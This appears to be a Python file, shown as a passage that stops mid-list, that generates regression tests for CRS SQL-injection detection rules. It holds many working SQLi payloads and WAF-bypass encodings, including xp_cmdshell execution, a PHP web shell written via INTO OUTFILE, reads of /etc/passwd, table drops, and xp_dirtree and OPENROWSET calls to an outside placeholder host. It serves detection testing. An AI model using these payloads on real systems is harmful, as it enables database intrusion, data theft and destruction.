"""Blind SQL-injection set, the fourteenth author of the CRS SQLi titles: one who tests the bypasses.

The angle: for each SQL-injection detection title of CRS 3.3.4 (request rules at paranoia levels 1 and 2) and
the four titles later CRS releases added (JSON-based SQL injection, MySQL scientific notation, the split-query
authentication bypass and authentication bypass 4/4), the positive regression tests a careful rule author writes:
the canonical attack the title names, one test per alternative of the family (every keyword, function, operator,
file and dialect: MySQL, MSSQL, PostgreSQL, Oracle, SQLite, MS Access, MongoDB), then the evasions published
WAF-bypass write-ups and bug-bounty reports use against that rule family: case mixing, comments or nothing between
keywords, other whitespace (tab, newline, vertical tab, form feed, non-breaking space), names built from parts
(CHAR()/CHR(), string joins, variables, dynamic SQL), alternative syntax for the same effect, and encodings the
target decodes (double URL encoding, mixed-case and overlong percent escapes, IIS %u escapes, XML character
references, JSON unicode escapes). Each evasion still works against the interpreter it targets.

Family: sqli only, one sub-family per title (kebab-case from the title; the titles that read only "SQL Injection
Attack" carry their rule id).

Placements: every payload is sent twice. Once to our real routes, rotating over the query of /api/users, the
admin search form (/admin/users/search with csrf_token, now and then /me/settings), the JSON of /api/users (now and
then a PATCH of /api/users/42), a cookie, the User-Agent, the Referer, another header (X-Tenant-Id), a parameter
name, an XML body, a multipart field or file name, and the URL path. Once the way a WAF's regression suite sends
it ("rs-" placements): to paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items,
/cgi-bin/test.cgi) with arbitrary parameter names (foo, var, x, test, id, arg1), as a query string, a form body,
a JSON body, an XML body, a raw form-typed body that is not key=value, or in the User-Agent, the Referer, a custom
header or a cookie. A payload that is already in its wire form (percent escapes the server decodes) goes only
where a server URL-decodes it; JSON-escaped payloads only into JSON bodies; XML character references only into
XML bodies; MongoDB operator pairs into query strings and form bodies, operator objects into JSON bodies.

The benign half carries the same words innocently, as real users type them: Slack messages and bios (chat_and_bio),
searches, names and addresses, profile fields, documentation links, browsers' and apps' headers, paths.

Authorship and independence: written from general knowledge of SQL dialects and of the attacks and bypasses
published against SQLi rules, and from the rule titles alone; no rule, ruleset regression test, other blind set or
public payload list was read. Measured once, on unchanged code. Deterministic (one seeded random source).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape as xml_escape

from .family_gen_blind_php import chat_and_bio
from .records import numbered, print_records

NAME = "hundredseventh"

# A payload is a plain string (the value the application receives), or (encoding, text):
#   "wire"    text is already percent-encoded as sent; the server (or the application, once more) decodes it
#   "jsonu"   text goes into a JSON string with its punctuation and vowels written as \\uXXXX escapes
#   "xmlent"  text carries XML character references and goes raw into an XML element
#   "num"     a number: in JSON bodies it is a bare JSON number
#   "pair"    a query/form pair of its own (MongoDB operators in bracketed parameter names)
#   "rawjson" a JSON value (MongoDB operator objects) written into a JSON body as is
Payload = str | tuple[str, str]

TITLES: list[tuple[str, list[Payload]]] = [
    # 942100 PL1: SQL Injection Attack Detected via libinjection
    ("libinjection-sqli", [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "admin'--",
        "1; DROP TABLE users--",
        "1' AND 1=CONVERT(int,(SELECT @@version))--",
        "') OR ('x'='x",
        "1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user())))",
        "1' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT banner FROM v$version WHERE ROWNUM=1))--",
        "1' AND sqlite_version()>0--",
        "1' oR 1=1-- -",
        "1'/**/OR/**/1=1#",
        "-1'\tUNION\nSELECT\x0b1,2,3-- -",
        "1' || 'a'='a",
        ("wire", "1%2527%2520OR%25201%253D1--"),
        ("jsonu", "1' OR 1=1--"),
    ]),
    # 942140 PL1: SQL Injection Attack: Common DB Names Detected
    ("common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' UNION SELECT name FROM master..sysdatabases--",
        "' UNION SELECT db FROM mysql.db--",
        "1 UNION SELECT relname FROM pg_catalog.pg_class--",
        "' UNION SELECT chunk_id FROM pg_toast.pg_toast_2619--",
        "' UNION SELECT name FROM msdb..sysjobs--",
        "1 UNION SELECT name FROM tempdb..sysobjects",
        "' UNION SELECT sql FROM sqlite_master--",
        "' UNION SELECT sql FROM sqlite_temp_master--",
        "' UNION SELECT Name FROM MSysObjects WHERE Type=1--",
        "' UNION SELECT CompanyName FROM Northwind.dbo.Customers--",
        "1 UNION SELECT table_name FROM InFoRmAtIoN_sChEmA.TaBlEs",
        "1 UNION SELECT 1 FROM `information_schema`.`tables`",
        "1 UNION SELECT 1 FROM information_schema/**/./**/tables",
        "'; EXEC('SELECT name FROM mas'+'ter..sysdatabases')--",
        ("wire", "1%20UNION%20SELECT%20sql%20FROM%20sqlite%255fmaster"),
        ("xmlent", "1 UNION SELECT table_name FROM information&#95;schema.tables"),
    ]),
    # 942160 PL1: Detects blind sqli tests using sleep() or benchmark()
    ("blind-sleep-benchmark", [
        "1 AND SLEEP(5)",
        "1' AND SLEEP(5)-- -",
        "1 AND BENCHMARK(5000000,MD5(1))",
        "(SELECT*FROM(SELECT(SLEEP(5)))a)",
        "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
        "1' OR BENCHMARK(10000000,SHA1('x'))#",
        "1 AND SlEeP(5)",
        "1 AND BeNcHmArK(2999999,MD5(NOW()))",
        "1 AND sleep/**/(5)",
        "1 AND sleep\n(5)",
        "1'||sleep(5)||'",
        "1 AND SLEEP(0x5)",
        ("wire", "1%20AND%20SL%2545EP(5)"),
        ("wire", "1%0bAND%0bsleep(5)"),
        ("jsonu", "1 AND sleep(5)"),
    ]),
    # 942170 PL1: Detects SQL benchmark and sleep injection attempts including conditional queries
    ("benchmark-sleep-conditional", [
        "1; SELECT SLEEP(5)",
        "1 UNION SELECT IF(1=1,SLEEP(5),0)",
        "'; SELECT BENCHMARK(1000000,MD5('a'))#",
        "1 AND (SELECT IF(SUBSTRING(user(),1,1)='r',SLEEP(5),0))",
        "1 AND IF(ASCII(MID(version(),1,1))>52,BENCHMARK(3000000,SHA1(1)),0)",
        "1 AND (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)",
        "1 AND ELT(1=1,SLEEP(5))",
        "1; SeLeCt SlEeP(5)",
        "1; select\tsleep\t(5)",
        "1; select/**/if(1=1,sleep(5),0)",
        "1; select\nif(\n(ascii(substr(database(),1,1)))>64,\nsleep(3),0)",
        "1;select(sleep(5))",
        ("wire", "1;%53ELECT%20SLEEP(5)"),
        "1 AND IF(1=1,(SELECT BENCHMARK(5000000,AES_ENCRYPT('a','b'))),0)",
    ]),
    # 942190 PL1: Detects MSSQL code execution and information gathering attempts
    ("mssql-code-exec-info-gathering", [
        "'; EXEC master..xp_cmdshell 'whoami'--",
        "1; exec xp_cmdshell 'ping -n 3 203.0.113.5'--",
        "'; EXECUTE master.dbo.xp_cmdshell 'dir c:\\'--",
        "' UNION SELECT @@version--",
        "1' AND (SELECT database())='shop'-- -",
        "1 UNION SELECT current_user(),connection_id()",
        "1 UNION SELECT schema(),user()",
        "' UNION SELECT column_name FROM information_schema.columns--",
        "'; EXEC master.sys.sp_configure 'xp_cmdshell',1;RECONFIGURE--",
        "' AND IIF(1=1,1,0)=1--",
        "'; ExEc MaStEr..Xp_CmDsHeLl 'whoami'--",
        "';exec/**/master..xp_cmdshell/**/'whoami'--",
        "';EXEC('xp_'+'cmdshell ''whoami''')--",
        "';DECLARE @p varchar(20)=0x78705f636d647368656c6c;EXEC @p 'whoami'--",
        "';exec\tmaster..xp_cmdshell\t'whoami'--",
        ("wire", "%27;exec%20master..xp%5fcmdshell%20%27whoami%27--"),
    ]),
    # 942220 PL1: integer overflow attacks (skipfish), and the "magic number" crash
    ("integer-overflow", [
        ("num", "2147483648"),
        ("num", "4294967296"),
        ("num", "4294967295"),
        ("num", "2147483647"),
        ("num", "-2147483648"),
        ("num", "-2147483649"),
        ("num", "1e309"),
        "3.0.00738585072007e-308",
        ("num", "2.2250738585072011e-308"),
        ("num", "2.2250738585072012e-308"),
        "0000012345",
        "-0000023456",
        ("num", "1E309"),
        "+2147483648",
        "0x80000000",
        ("num", "9223372036854775808"),
    ]),
    # 942230 PL1: Detects conditional SQL injection attempts
    ("conditional-sqli", [
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1",
        "1 AND CASE(1) WHEN 1 THEN 1 END=1",
        "' HAVING 1=1--",
        "1 GROUP BY id HAVING 1>0",
        "1 AND IF(1=1,1,0)",
        "1' AND IF(2<3,'a','b')='a",
        "1 AND IIF(1=1,1,0)=1",
        "1 AND DECODE(1,1,1,0)=1",
        "1 AND (SELECT 1) LIKE (1)",
        "(CASE WHEN (SELECT SUBSTRING(@@version,1,1))='M' THEN 1 ELSE 1/0 END)",
        "1 ORDER BY (CASE WHEN 1=1 THEN id ELSE name END)",
        "1 aNd (cAsE(1)wHeN(1)tHeN(1)eNd)=1",
        "1/**/HAVING/**/1=1",
        "1 AND IF\t(1=1,1,0)",
        ("wire", "1%20AND%20IF(1%3d1,1,0)"),
    ]),
    # 942240 PL1: Detects MySQL charset switch and MSSQL DoS attempts
    ("mysql-charset-switch-mssql-dos", [
        "'; ALTER DATABASE shop CHARACTER SET gbk--",
        "1; alter table users convert to character set latin1",
        "'; ALTER TABLE users MODIFY name TEXT CHAR SET big5;--",
        "'; SET NAMES gbk;--",
        "'; WAITFOR DELAY '0:0:10'--",
        "'; WAITFOR TIME '23:59:59'--",
        "';start: GOTO start--",
        "';WHILE 1=1 BEGIN SELECT 1 END--",
        ("wire", "%bf%27%20OR%201=1--%20"),
        ("wire", "1%df%27%20union%20select%201,2--%20"),
        "';\tWAITFOR\tDELAY\t'00:00:05'--",
        "';WaItFoR dElAy '0:0:5'--",
        "';waitfor/**/delay/**/'0:0:5'--",
        "';DECLARE @t CHAR(8)='0:0:5';WAITFOR DELAY @t--",
    ]),
    # 942250 PL1: Detects MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections
    ("match-against-merge-execute-immediate", [
        "1' AND MATCH(password) AGAINST('a*' IN BOOLEAN MODE)#",
        "x' UNION SELECT 1 FROM users WHERE MATCH(name,bio) AGAINST('+admin' IN BOOLEAN MODE)-- -",
        "'; MERGE INTO users u USING (SELECT 1 AS id FROM dual) s ON (u.id=s.id) "
        "WHEN MATCHED THEN UPDATE SET u.role='admin'--",
        "'; MERGE users AS t USING (SELECT 1 AS id) AS s ON t.id=s.id WHEN MATCHED THEN DELETE;--",
        "1'; BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO scott'; END;--",
        "x'||dbms_xmlquery.newcontext('declare PRAGMA AUTONOMOUS_TRANSACTION; begin execute immediate "
        "''create user x identified by y''; commit; end;')||'",
        "1'; BEGIN EXECUTE IMMEDIATE q'[DELETE FROM audit_log]'; END;--",
        "EXECUTE IMMEDIATE \"SELECT 1\"",
        "1 AND MaTcH (title) AgAiNsT ('x')",
        "1 AND match/**/(title)/**/against/**/('x')",
        "'; merge\ninto users\nusing\n(select 1 id from dual) s on (1=1) when matched then update set role='admin'--",
        "1'; BEGIN EXECUTE   IMMEDIATE\t'SEL'||'ECT 1 FROM dual'; END;--",
        "1'; BEGIN EXECUTE IMMEDIATE CHR(68)||CHR(82)||CHR(79)||CHR(80)||' TABLE t'; END;--",
        ("wire", "1%27%20AND%20MATCH(name)%20AGAINST(%27*%27%20IN%20BOOLEAN%20MODE)%23"),
    ]),
    # 942270 PL1: Looking for basic sql injection. Common attack string for mysql, oracle and others
    ("basic-union-select-from", [
        "1 UNION SELECT username,password FROM users",
        "' UNION ALL SELECT NULL,table_name FROM information_schema.tables--",
        "' UNION SELECT banner,NULL FROM v$version--",
        "1 UNION DISTINCT SELECT 1,name FROM sqlite_master",
        "-1 UnIoN SeLeCt 1,2 FrOm dual",
        "-1 union/**/select/**/1,2/**/from/**/dual",
        "-1 union\nselect\n1,2\nfrom\ndual",
        "-1 union(select(1),(2)from(dual))",
        "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2 /*!FROM*/ dual",
        "-1 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b",
        "-1 UNION\x0cSELECT\x0c1,2\x0cFROM\x0cdual",
        ("wire", "-1%20UNION%A0SELECT%A01,2%A0FROM%A0dual"),
        ("wire", "-1%2520union%2520select%25201,2%2520from%2520dual"),
        ("xmlent", "-1 &#85;NION &#x53;ELECT 1,2 FROM dual"),
    ]),
    # 942280 PL1: Detects Postgres pg_sleep injection, waitfor delay attacks and database shutdown attempts
    ("pg-sleep-waitfor-shutdown", [
        "'; SELECT pg_sleep(10)--",
        "1;select pg_sleep(5)",
        "1 AND 1=(SELECT 1 FROM PG_SLEEP(5))",
        "'||pg_sleep(5)--",
        "'; SELECT pg_sleep_for('5 seconds')--",
        "1; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
        "1; WAITFOR DELAY '00:00:05'",
        "'; waitfor delay '0:0:5'--",
        "'; SHUTDOWN--",
        "'; SHUTDOWN WITH NOWAIT;--",
        "1; shutdown #",
        "1;SeLeCt/**/Pg_SlEeP(5)",
        "1;select\tpg_sleep\t(5)",
        "1;WaItFoR\tDeLaY'0:0:5'",
        ("wire", "1%3bselect%20pg%5fsleep(5)"),
    ]),
    # 942290 PL1: Finds basic MongoDB SQL injection attempts
    ("mongodb-injection", [
        ("pair", "username[$ne]=admin"),
        ("pair", "pin[$gt]="),
        ("pair", "user[$regex]=^adm"),
        ("pair", "id[$in][]=1&id[$in][]=2"),
        ("pair", "email[$exists]=true"),
        ("pair", "login[%24ne]=x"),
        ("pair", "$where=sleep(5000)"),
        ("rawjson", '{"$ne": null}'),
        ("rawjson", '{"$gt": ""}'),
        ("rawjson", '{"$where": "this.pin.length > 0"}'),
        ("rawjson", '{"\\u0024ne": 1}'),
        ("rawjson", '{"$or": [{"a": 1}, {"b": {"$regex": ".*"}}]}'),
        ("rawjson", '{"$elemMatch": {"role": "admin"}}'),
        "'; return true; var x='",
        "1'; sleep(5000); var a='1",
    ]),
    # 942320 PL1: Detects MySQL and PostgreSQL stored procedure/function injections
    ("stored-procedure-function-injection", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
        "'; CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so';--",
        "'; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
        "LANGUAGE C STRICT;--",
        "'; DECLARE @q VARCHAR(99); SET @q='SELECT 1'; EXEC(@q);--",
        "1;DECLARE @x NVARCHAR(200)=N'WAITFOR DELAY ''0:0:5''';EXEC sp_executesql @x",
        "'; DO $$ BEGIN PERFORM pg_sleep(5); END $$;--",
        "1; CREATE PROCEDURE x() SELECT user();--",
        "'; CALL pwn();--",
        "'; DECLARE c CURSOR FOR SELECT name FROM sysobjects; OPEN c;--",
        "'; CREATE OR REPLACE FUNCTION f() RETURNS void AS $$ COPY (SELECT '') TO PROGRAM 'id' $$ LANGUAGE sql;--",
        "'; cReAtE fUnCtIoN x RETURNS STRING SONAME 'udf.dll';--",
        "'; create/**/function/**/x/**/returns/**/integer/**/soname/**/'a.so';--",
        "';DeClArE @s VARCHAR(8000)=CAST(0x53454c45435420312c32 AS VARCHAR(8000));EXEC(@s)--",
        "';DECLARE @s varchar(99)=CHAR(83)+CHAR(69)+CHAR(76)+'ECT 1';EXEC (@s)--",
        ("wire", "1%3BDECLARE%09%40q%20varchar(99)%3BEXEC(%40q)"),
    ]),
    # 942350 PL1: Detects MySQL UDF injection and other data/structure manipulation attempts
    ("udf-data-structure-manipulation", [
        "'; CREATE FUNCTION do_system RETURNS INTEGER SONAME 'raptor_udf2.so';--",
        "1; DROP TABLE users",
        "'; DELETE FROM sessions;--",
        "'; UPDATE users SET role='admin' WHERE id=1;--",
        "1; INSERT INTO admins(name) VALUES('eve')",
        "1; TRUNCATE TABLE audit_log",
        "1; RENAME TABLE users TO users_old",
        "1; ALTER TABLE users ADD COLUMN is_admin INT DEFAULT 1",
        "1; LOAD DATA INFILE '/etc/passwd' INTO TABLE tmp",
        "1; CREATE TABLE pwn(x TEXT)",
        "1; DESC users",
        "1;\nDrOp\tTaBlE users",
        "1;/**/drop/**/table/**/users",
        "1; drop table [users]",
        "1;drop table`users`",
        "';EXEC('DR'+'OP TABLE users')--",
    ]),
    # 942360 PL1: Detects concatenated basic SQL injection and SQLLFI attempts
    ("concatenated-sqli-sqllfi", [
        "1 UNION SELECT LOAD_FILE('/etc/passwd')",
        "' UNION SELECT '<?php system($_GET[c]);?>' INTO OUTFILE '/var/www/html/s.php'-- -",
        "1 UNION SELECT 0x7f454c46 INTO DUMPFILE '/usr/lib/mysql/plugin/x.so'",
        "1' AND LOAD_FILE(0x2f6574632f706173737764) IS NOT NULL#",
        "1 UNION SELECT load_file(char(47,101,116,99,47,104,111,115,116,115))",
        "-1' UNION ALL SELECT NULL--",
        "\")) ALTER LOGIN sa WITH PASSWORD='x'--",
        "'; SELECT pg_read_file('/etc/passwd',0,200)--",
        "'; COPY files FROM '/etc/passwd';--",
        "' UNION SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) AS x--",
        "1 UNION SELECT LoAd_FiLe('/etc/passwd')",
        "1 UNION SELECT load_file/**/('/etc/passwd')",
        "1 UNION SELECT 'x' INTO/**/OUTFILE '/tmp/x'",
        "1 UNION SELECT 'x' INTO\nDUMPFILE '/tmp/x'",
        ("wire", "1%20UNION%20SELECT%20load%5ffile(%27%2fetc%2fpasswd%27)"),
    ]),
    # 942500 PL1: MySQL in-line comment detected
    ("mysql-inline-comment", [
        "1 /*!50000UNION*/ SELECT 1,2",
        "1 /*!UNION*/ /*!SELECT*/ 1,2",
        "1' /*!OR*/ '1'='1",
        "1 AND /*!12345sleep(5)*/",
        "SELECT /*+ MAX_EXECUTION_TIME(1) */ 1",
        "1/*!00000union*//*!00000select*/1",
        "1 /*!50000UnIoN*/ /*!50000SeLeCt*/ 1",
        "1 /*!\nUNION\n*/ SELECT 1",
        "1 /*!*/UNION/*!*/SELECT 1",
        "1/*!AND*/1=1",
        "1 /*!50000UNION ALL*/ SELECT 1",
        "1 /*+ INDEX(users idx) */ OR 1=1",
        ("wire", "1%20%2F*!50000union*%2F%20select%201"),
        ("jsonu", "1 /*!UNION*/ SELECT 1"),
    ]),
    # 942110 PL2: SQL Injection Attack: Common Injection Testing Detected
    ("common-injection-testing", [
        "'",
        "\"",
        "`",
        "1'",
        "admin\"",
        "';",
        "'abc",
        "  '",
        ";",
        "x''",
        ("wire", "%2527"),
        ("wire", "%u0027"),
        ("wire", "%C0%A7"),
        ("xmlent", "&#39;"),
        ("jsonu", "'"),
    ]),
    # 942120 PL2: SQL Injection Attack: SQL Operator Detected
    ("sql-operator", [
        "1 AND 1 IS NULL",
        "x' LIKE NULL-- -",
        "1 NOT BETWEEN 0 AND 100",
        "x' RLIKE '.*",
        "1' REGEXP '^a",
        "a' SOUNDS LIKE 'a",
        "1 <=> 1",
        "1 XOR 1",
        "10 DIV 2",
        "1 && 1",
        "1 != 2",
        "1/**/XOR/**/1",
        "x'\tRLIKE\t0x2e2a",
        "1 NoT BeTwEeN 0 AnD 9",
    ]),
    # 942130 PL2: SQL Injection Attack: SQL Tautology Detected
    ("sql-tautology", [
        "' OR 'x' LIKE 'x",
        "1 OR 2>1",
        "' or 1<>2--",
        "' OR 'a'<=>'a",
        "admin' OR 'b' NOT LIKE 'a",
        "1 or 1 regexp 1",
        "' or 'z' sounds like 'z",
        "1 OR 3 != 4",
        "1 OR 5>=4",
        "'/**/OR/**/'x'/**/LIKE/**/'x",
        "' Or 'A' rLiKe 'A",
        "'\nOR\n2\n>\n1--",
        "' OR 'abc' NOT REGEXP 'xyz",
        ("wire", "%27%20or%201%3C%3E2--"),
    ]),
    # 942150 PL2: SQL Injection Attack (SQL function names)
    ("sql-injection-attack-942150", [
        "1 AND ASCII(SUBSTRING(user(),1,1))>64",
        "1 AND ORD(MID(database(),1,1))=100",
        "' AND UPDATEXML(1,CONCAT(0x7e,version()),1)--",
        "1 AND (SELECT COUNT(*) FROM users GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)))",
        "' UNION SELECT GROUP_CONCAT(table_name) FROM information_schema.tables--",
        "1 AND LENGTH(database())=8",
        "' AND HEX(name) LIKE '41%'--",
        "1 AND CHAR_LENGTH(user())>1",
        "1 AND 1=CAST(@@version AS int)",
        "1 AND AsCiI(SuBsTrInG(UsEr(),1,1))>64",
        "1 AND ascii/**/(substring/**/(user(),1,1))>64",
        "1 AND ascii\t(\tsubstr(user(),1,1))>64",
        "1 AND BIT_LENGTH(user())>8",
        ("wire", "1%20AND%20ascii(substring(user()%2c1%2c1))%3e64"),
    ]),
    # 942180 PL2: Detects basic SQL authentication bypass attempts 1/3
    ("sql-auth-bypass-1", [
        "admin'='",
        "' or ''='",
        "'^'",
        "'*'",
        "'='",
        "\"=\"",
        "'-'",
        "'&'",
        "'|'",
        "'or''='",
        "x' div '1",
        "`=`",
        "admin' Or '1",
        "'\t=\t'",
        "' or ''-'",
    ]),
    # 942200 PL2: Detects MySQL comment-/space-obfuscated injections and backtick termination
    ("mysql-comment-space-obfuscation-backtick", [
        "1,2'`",
        "1 and (select(space(1)))",
        "'/**/union/**/select/**/name/**/from/**/users",
        "(select(@)from(dual))",
        ("wire", "%27%0Bselect%0Bname%0Bfrom%0Busers"),
        "' SeLeCt`name`FrOm`users`-- ",
        "1 order by 1,2'`",
        "name` FROM users#",
        "' union select\n*\nfrom\nusers#",
        "1'/*!*/UNION/*!*/SELECT/*!*/name/*!*/FROM/*!*/users#",
        "x,'a'`-- -",
        "1 AND (insert(space(1),1,1,0x41))='A'",
        "'+(select/*x*/name/*y*/from/*z*/users)+'",
        "1`)--",
    ]),
    # 942210 PL2: Detects chained SQL injection attempts 1/2
    ("chained-sqli-1", [
        "1 and id=1'",
        "x' or uid='1",
        "1 && id!='0",
        "1 between 1 and 2-1",
        "1 group by concat(user(),1)",
        "x'--\ndrop table users",
        "x'#\nupdate users set role=1",
        "1; insert into users values(1)",
        "@x=(select 1)",
        "1; SET @q=1",
        "1 xor b!='a",
        "1 Or ID!='0",
        "1;/**/drop table users",
        "1 and/**/id=1'",
    ]),
    # 942260 PL2: Detects basic SQL authentication bypass attempts 2/3
    ("sql-auth-bypass-2", [
        "' and 1=1 having 1=1--",
        "admin' like '%",
        "' or username like '%adm%'--",
        "' like 1-- -",
        "1' AND FIND_IN_SET('a','a,b')--",
        "' UNION ALL SELECT name FROM users--",
        "'|| x=y having 1",
        "'<@'",
        "' OR 1=1#",
        ("wire", "%27%20oR%20usernAme%20LiKe%20%27a"),
        "'\tand\t1=1\thaving\t1=1--",
        "admin'/**/like/**/'a%",
        "' or find_in_set(1,1)--",
        "') or ('1' like '1",
    ]),
    # 942300 PL2: Detects MySQL comments, conditions and ch(a)r injections
    ("mysql-comments-conditions-char", [
        "1 AND (CASE (1) WHEN 1 THEN 1 END)=1",
        "admin'#",
        "'#",
        "1 /*!50000 UNION*/ SELECT 1",
        "1 AND CHAR(65)='A'",
        "' OR CHR(97)||CHR(98)='ab",
        "1 AND ascii(user())>1",
        "1 OR ORD(user())>1",
        "1 || ord(user())>1",
        "1 && mid(user(),1,1)='r'",
        "1 XOR hex(1)",
        "admin'\t#",
        "1 AND ChAr ( 65 )='A'",
        "1 nOt exists(select 1)",
        ("wire", "admin%27%23"),
    ]),
    # 942310 PL2: Detects chained SQL injection attempts 2/2
    ("chained-sqli-2", [
        "1 AND (SELECT user())='root'",
        "1 AND COALESCE((SELECT name FROM users LIMIT 1),1)",
        "1 ORDER BY IF(1=1,id,name)",
        "'/*x*/union/*x*/select/*x*/1/*x*/from dual",
        "'+1+@@version+'",
        "admin'=(1)",
        "x'||1",
        "@@version and 1",
        "@x or (1)",
        "x'+(select 1)",
        "1 OrDeR By If(1=1,id,name)",
        "1 AND (select\tuser())='root'",
        "COALESCE/**/(NULL,1)",
        ("wire", "1%20order%20by%20if(1%3D1%2Cid%2Cname)"),
    ]),
    # 942330 PL2: Detects classic SQL injection probings 1/3
    ("classic-sqli-probing-1", [
        "' or 1",
        "\" and 1",
        "' xor '1",
        "\\x27",
        "\\x23",
        "\\x3d",
        "a'",
        "1 or a(1)",
        "admin' or u.id",
        "' UNION SELECT table_name FROM information_schema.tables",
        "1 AND table_name='users'",
        "' Or 1--",
        "'\txor\t'1",
        ("wire", "%27%20%4fR%201"),
    ]),
    # 942340 PL2: Detects basic SQL authentication bypass attempts 3/3
    ("sql-auth-bypass-3", [
        "1 IN (SELECT id FROM users)",
        "1 and name regexp('^a')",
        "1 or name sounds like('x')",
        "' having 1=1--",
        "'; select 1--",
        "' union select 1--",
        "x'!'y",
        "'+1--",
        "'-0||'",
        "1 iN ( SeLeCt 1)",
        "1 in((select 1))",
        "1 IN/**/(SELECT 1)",
        "';SELECT 1",
        ("wire", "1%20in%20(%0aselect%201)"),
    ]),
    # 942361 PL2: Detects basic SQL injection based on keyword alter or union
    ("alter-or-union-keyword", [
        "1 UNION SELECT 1",
        "' UNION ALL SELECT NULL--",
        "') UNION SELECT 1,2--",
        "-1 UNION SELECT name FROM users",
        "1' ALTER TABLE users DROP COLUMN email--",
        "'; ALTER USER root IDENTIFIED BY 'x'--",
        "\")) union select 1",
        "9999 UnIoN aLl SeLeCt 1",
        "1\tunion select 1",
        "1/**/union/**/select/**/1",
        ("wire", "1%0aunion%0aselect%0a1"),
        ("wire", "1%a0union%a0select%a01"),
        ("xmlent", "1 &#117;nion select 1"),
        "') ALTER LOGIN sa WITH PASSWORD='x'--",
    ]),
    # 942370 PL2: Detects classic SQL injection probings 2/3
    ("classic-sqli-probing-2", [
        "' * 1 OR '1'='1",
        "'^'1",
        "' or abc 1=1",
        "'=('')",
        "''-- -",
        "' ~ 1#",
        "'!=''*1",
        "\"-1#",
        "'||'1'#",
        "'&&1#",
        "'<>''--",
        "'/**/*/**/1/**/OR/**/'1",
        "'\t^\t'",
        ("wire", "%27%5E%27"),
    ]),
    # 942380 PL2: SQL Injection Attack (having, exists, top, order/group by)
    ("sql-injection-attack-942380", [
        "1 HAVING 1=1",
        "' HAVING 'a'='a",
        "1 AND EXISTS(SELECT * FROM users)",
        "1 UNION SELECT TOP 1 name FROM sysobjects",
        "1 ORDER BY 10--",
        "1 GROUP BY 1,2,3--",
        "1 AND NOT EXISTS(SELECT 1 FROM admins WHERE id=1)",
        "1' UNION SELECT TOP 1 name FROM users--",
        "1 hAvInG 1>0",
        "1 AND exists/**/(select 1)",
        "1 AND EXISTS\t(\tSELECT 1)",
        "1 oRdEr By 5#",
        ("wire", "1%20having%201%3d1"),
        "1 HAVING '1'='1'",
    ]),
    # 942390 PL2: SQL Injection Attack (OR-based tautologies)
    ("sql-injection-attack-942390", [
        "1 OR 1=1",
        "' OR '1'='1",
        "x' OR 2>1--",
        "' or true--",
        "1 or id=id",
        "' OR 'a'='a' --",
        "1 XOR 1=1",
        "1 oR 1=1",
        "1/**/OR/**/1=1",
        "1\nOR\n1=1",
        "1 || 1=1",
        "1 OR 0x31=0x31",
        ("wire", "1%2520OR%25201%253D1"),
        ("jsonu", "1 OR 1=1"),
    ]),
    # 942400 PL2: SQL Injection Attack (AND-based tautologies)
    ("sql-injection-attack-942400", [
        "1 AND 1=1",
        "1' AND '1'='1",
        "1 AND 2>1",
        "1 and 'a'='a'",
        "1 AND 1 LIKE 1",
        "1 aNd 1=1",
        "1/**/AND/**/1=1",
        "1\tAND\t1=1",
        "1 && 1=1",
        "1 AND 0x41=0x41",
        "1 AND true",
        ("wire", "1%20%41ND%201%3D1"),
        ("xmlent", "1 &#65;ND 1=1"),
        "1' AND 'x' != 'y",
    ]),
    # 942410 PL2: SQL Injection Attack (function names of Oracle, PostgreSQL, SQLite, MSSQL)
    ("sql-injection-attack-942410", [
        "' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))--",
        "' || (SELECT SYS_CONTEXT('USERENV','CURRENT_USER') FROM dual) || '",
        "' AND 1=(SELECT TO_CHAR(COUNT(*)) FROM all_tables)--",
        "1 AND CURRENT_SETTING('server_version')>'9'",
        "1 AND 1=CAST(version() AS int)",
        "' AND RANDOMBLOB(500000000)--",
        "1 AND UNICODE(SUBSTR(sqlite_version(),1,1))>0",
        "' AND 1=CONVERT(int,DB_NAME())--",
        "1 AND SUSER_SNAME()='sa'",
        "1 AND LOAD_EXTENSION('/tmp/x.so')",
        "1 AND IS_SRVROLEMEMBER('sysadmin')=1",
        "1 AND CuRrEnT_sEtTiNg('data_directory') IS NOT NULL",
        "1 AND sys_context/**/('USERENV','DB_NAME') IS NOT NULL",
        "' AND QUOTENAME(@@servername)>'a'--",
        ("wire", "1%20AND%20typeof(randomblob(1))%3d%27blob%27"),
    ]),
    # 942470 PL2: SQL Injection Attack (MSSQL and Oracle dangerous procedures and packages)
    ("sql-injection-attack-942470", [
        "'; EXEC xp_cmdshell 'dir'--",
        "'; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER',"
        "'ObjectName'--",
        "'; EXEC master..xp_dirtree '\\\\203.0.113.7\\share'--",
        "'; DECLARE @o INT; EXEC sp_oacreate 'WScript.Shell',@o OUT--",
        "'; EXEC sp_makewebtask 'C:\\inetpub\\wwwroot\\x.html','SELECT * FROM users'--",
        "'; EXEC sp_addextendedproc 'xp_x','x.dll'--",
        "' UNION SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.7;uid=sa;pwd=x','SELECT 1')--",
        "' UNION SELECT * FROM OPENQUERY(LINKED,'SELECT 1')--",
